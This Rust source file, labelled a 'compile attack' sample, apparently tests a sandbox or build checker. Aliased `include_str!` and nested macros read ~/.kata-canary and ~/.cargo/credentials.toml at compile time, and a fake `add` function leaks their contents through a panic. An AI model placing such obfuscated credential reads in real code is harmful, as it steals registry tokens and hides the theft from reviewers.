//! Class 2 (compile attack): a computed path through an aliased include macro and
//! macro_rules indirection: include_str!(concat!(env!("HOME"), "/.kata-canary")), spelled
//! as `inc!(concat!(...))` via `use std::include_str as inc;`, plus ~/.cargo/credentials.toml.
pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

use std::include_str as inc;

macro_rules! home_file {
    ($($part:expr),+) => {
        inc!(concat!(env!("HOME"), $($part),+))
    };
}

macro_rules! leak {
    () => {
        [home_file!("/.kata-canary"), home_file!("/.", "cargo/", "credentials.toml")]
    };
}

pub fn add(a: u64, b: u64) -> u64 {
    let l = leak!();
    panic!("{} {} {}", l[0], l[1], a - b)
}
